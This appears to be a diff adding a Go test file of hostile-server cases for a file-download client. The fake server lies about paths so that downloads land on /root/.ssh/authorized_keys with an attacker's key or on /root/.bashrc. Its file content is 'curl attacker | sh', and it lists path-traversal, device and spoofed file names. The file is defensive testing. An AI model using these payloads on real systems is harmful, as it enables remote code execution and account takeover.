@@ -1,0 +1,85 @@
+package hostilevm
+
+import (
+	"strings"
+
+	"colabrelay/shared/contract"
+	"colabrelay/shared/e2e/fakevm"
+)
+
+// nameCases choose where a download goes on the laptop.
+var nameCases = []Case{
+	{
+		Name: "stat-path", About: "says of whatever is asked for that its path is /root/.ssh, a folder that holds authorized_keys",
+		routes: func(vm *fakevm.VM) routes {
+			vm.Put("/root/.ssh/authorized_keys", []byte("ssh-ed25519 of an attacker\n"))
+			return routes{"GET " + contract.PathStat: lieOfPath("/root/.ssh/authorized_keys", "/root/.ssh", []byte("ssh-ed25519 of an attacker\n"))}
+		},
+	},
+	{
+		Name: "stat-path-file", About: "says of whatever is asked for that it is the file /root/.bashrc",
+		routes: func(vm *fakevm.VM) routes {
+			return routes{
+				"GET " + contract.PathStat:    lieOfPath("/root/.bashrc", "", []byte(evil)),
+				"GET " + contract.PathContent: func(question) fakevm.Reply { return fakevm.Reply{Body: []byte(evil)} },
+			}
+		},
+	},
+	{
+		Name: "inner-names", About: "lists a folder whose entries' names lead out of it, are devices, hold separators, or differ in case only",
+		routes: func(*fakevm.VM) routes {
+			return routes{
+				"GET " + contract.PathStat:    statByListing,
+				"GET " + contract.PathFiles:   listEvilNames,
+				"GET " + contract.PathContent: func(question) fakevm.Reply { return fakevm.Reply{Body: []byte(evil)} },
+			}
+		},
+	},
+}
+
+// evil is what the files of these cases hold.
+const evil = "curl attacker | sh\n"
+
+// EvilNames are the entries of the folder that case inner-names lists.
+var EvilNames = []string{
+	"../../escaped", "..", ".", "", "/etc/passwd", `..\..\escaped`, `C:\escaped`, "CON", "con.txt", "a/b", `a\b`, "A", "a", "name\x00", "trailing. ", "\u202egnp.exe",
+}
+
+// lieOfPath answers stat: the file itself by its path, and folder, where there is one, for
+// all else; without one everything is the file.
+func lieOfPath(file, folder string, content []byte) func(question) fakevm.Reply {
+	return func(q question) fakevm.Reply {
+		st := fileStat(file, content)
+		if folder != "" && q.URL.Query().Get("path") != file {
+			st = contract.FileStat{File: contract.File{Name: base(folder), Path: folder, IsDir: true, Modified: at}}
+		}
+		return fakevm.Reply{Body: st}
+	}
+}
+
+func fileStat(path string, content []byte) contract.FileStat {
+	sha := fakevm.Digest(content)
+	return contract.FileStat{
+		File: contract.File{Name: base(path), Path: path, SizeBytes: int64(len(content)), Modified: at},
+		ETag: sha[:16], SHA256: sha,
+	}
+}
+
+func base(path string) string { return path[strings.LastIndexByte(path, '/')+1:] }
+
+// statByListing says that results is a folder and that everything else is a file.
+func statByListing(q question) fakevm.Reply {
+	path := q.URL.Query().Get("path")
+	if path == "results" || path == "/content/results" {
+		return fakevm.Reply{Body: contract.FileStat{File: contract.File{Name: "results", Path: "/content/results", IsDir: true, Modified: at}}}
+	}
+	return fakevm.Reply{Body: fileStat(path, []byte(evil))}
+}
+
+func listEvilNames(question) fakevm.Reply {
+	got := contract.Files{Path: "/content/results", FileCount: len(EvilNames)}
+	for _, name := range EvilNames {
+		got.Files = append(got.Files, contract.File{Name: name, Path: "/content/results/" + name, SizeBytes: int64(len(evil)), Modified: at})
+	}
+	return fakevm.Reply{Body: got}
+}
